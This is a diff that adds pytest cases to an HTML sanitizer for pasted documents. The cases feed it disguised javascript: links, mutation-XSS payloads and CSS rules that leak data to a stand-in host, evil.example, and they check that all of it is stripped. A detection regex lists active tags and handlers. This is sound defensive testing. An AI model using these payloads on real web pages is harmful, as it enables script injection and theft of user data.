@@ -1,5 +1,7 @@
 """Bodies pasted from word processors keep their substance and lose everything else."""
 
+import re
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -241,3 +243,48 @@ def test_plain_text_survives_the_round_trip(lines: list[str]) -> None:
     markup = text_to_html("\n".join(lines))
     assert html_to_text(markup).split("\n") == (wanted or [""])
     assert clean_html(markup).html == markup.replace('"', '"') or "  " in markup
+
+
+@pytest.mark.parametrize(
+    "href",
+    [
+        "java&#115;cript:alert(1)",
+        "jav&#x09;ascript:alert(1)",
+        "jav\tascript:alert(1)",
+        " &#14; javascript:alert(1)",
+        "JaVaScRiPt&colon;alert(1)",
+        "vbscript:msgbox(1)",
+    ],
+)
+def test_a_disguised_script_link_is_taken_out_and_reported(href: str) -> None:
+    cleaned = clean_html(f'<p><a href="{href}">看</a></p>')
+    assert cleaned.html == "<p>看</p>"
+    assert cleaned.removed == ["脚本链接（保留文字）：1处"]
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=a()&gt;'>",
+        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
+        "<template><svg><script>alert(1)</script></svg></template>",
+        "<title><a title='</title><img src=x onerror=alert(1)>'>",
+        "<select><iframe></select><img src=x onerror=alert(1)>",
+        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>x",
+        "<style>input[value^=a]{background:url(//evil.example)}</style>x",
+        "<p style='background:url(//evil.example)'>x</p>",
+        "<img srcset='//evil.example/x 1x' src='/a.png'>",
+        "<a href='/x' target='_blank' ping='//evil.example'>x</a>",
+        "<base href='//evil.example/'>x",
+        "<td background='javascript:alert(1)'>x</td>",
+        "<plaintext><script>alert(1)</script>",
+    ],
+)
+def test_nothing_active_survives_and_cleaning_again_changes_nothing(markup: str) -> None:
+    html = clean_html(markup).html
+    tags = "".join(re.findall(r"<[^>]*>", html)).lower()
+    active = r"<(?:script|style|svg|math|iframe|form|input|meta|base|link)|\son[a-z]+=|evil|target="
+    assert not re.search(active, tags)
+    assert clean_html(html).html == html
